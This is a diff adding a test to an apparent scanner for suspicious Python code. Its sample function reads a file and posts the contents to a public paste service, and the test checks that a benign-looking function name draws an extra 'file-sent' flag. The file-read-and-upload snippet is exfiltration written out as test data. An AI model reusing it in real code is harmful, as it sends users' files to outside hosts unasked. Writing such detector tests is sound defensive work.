@@ -445,3 +445,12 @@ test('a program with a place for its code is weighed lightly', () => {
   assert.deepEqual(judged('{{CODE}}'), [['decoded-execution', 'low']]);
   assert.deepEqual(judged('cHJpbnQoImhlbGxvIHdvcmxkIik='), [['decoded-execution', 'high']]);
 });
+
+test('what is pasted by a function of that name is meant to be seen', () => {
+  const sends = (name: string) =>
+    python(
+      `def ${name}(path):\n    text = open(path).read()\n    requests.post("https://dpaste.com/api/", data=text)\n`,
+    );
+  assert.deepEqual(sends('pastebin'), ['shady-contact']);
+  assert.deepEqual(sends('check'), ['file-sent', 'shady-contact']);
+});
